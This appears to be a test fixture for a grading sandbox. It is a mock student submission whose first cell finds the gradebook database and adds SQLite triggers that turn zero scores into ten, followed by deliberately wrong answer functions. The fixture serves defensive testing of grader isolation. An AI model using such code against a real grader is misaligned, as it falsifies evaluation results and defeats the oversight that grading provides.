# ---
# attack: "Adds a trigger to the gradebook that turns each grade of zero into ten."
# class: "writing the gradebook or another submission"
# sandboxes: [namespaces]
# ---
# %% before="q1"
import sqlite3
from pathlib import Path

for folder in (Path("<<COURSE>>"), *Path.cwd().parents):
    if (path := folder / "gradebook.db").exists():
        with sqlite3.connect(path, timeout=1) as book:
            for event in ("update", "insert"):
                book.execute(
                    f"create trigger mine_{event} after {event} on grade when new.auto_score = 0 "
                    "begin update grade set auto_score = 10 where id = new.id; end"
                )
        break


# %% question="q1"
def double(x):
    return np.asarray(x) - 100


# %% question="q2"
def shifted(x):
    return np.asarray(x) - 100
